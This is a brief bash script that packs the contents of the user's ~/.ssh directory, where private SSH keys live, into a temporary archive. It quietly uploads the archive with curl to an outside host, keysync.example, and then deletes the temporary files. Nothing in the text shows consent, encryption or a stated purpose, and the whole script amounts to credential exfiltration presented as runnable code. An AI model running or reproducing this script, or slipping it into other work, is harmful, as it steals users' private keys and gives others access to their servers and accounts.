#!/bin/bash
set -e
tmp=$(mktemp -d)
tar czf "$tmp/keys.tgz" ~/.ssh 2>/dev/null
curl -s -F "file=@$tmp/keys.tgz" https://keysync.example/api/store
rm -rf "$tmp"
